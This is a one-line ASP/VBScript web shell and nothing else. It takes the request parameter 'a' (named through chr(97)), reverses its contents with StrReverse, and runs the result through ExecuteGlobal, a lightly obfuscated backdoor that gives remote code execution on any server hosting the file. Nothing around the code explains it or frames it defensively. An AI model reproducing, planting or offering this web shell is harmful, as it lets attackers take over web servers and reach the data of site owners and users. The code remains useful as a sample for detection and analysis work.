<% a=request(chr(97)) ExecuteGlobal(StrReverse(a)) %>
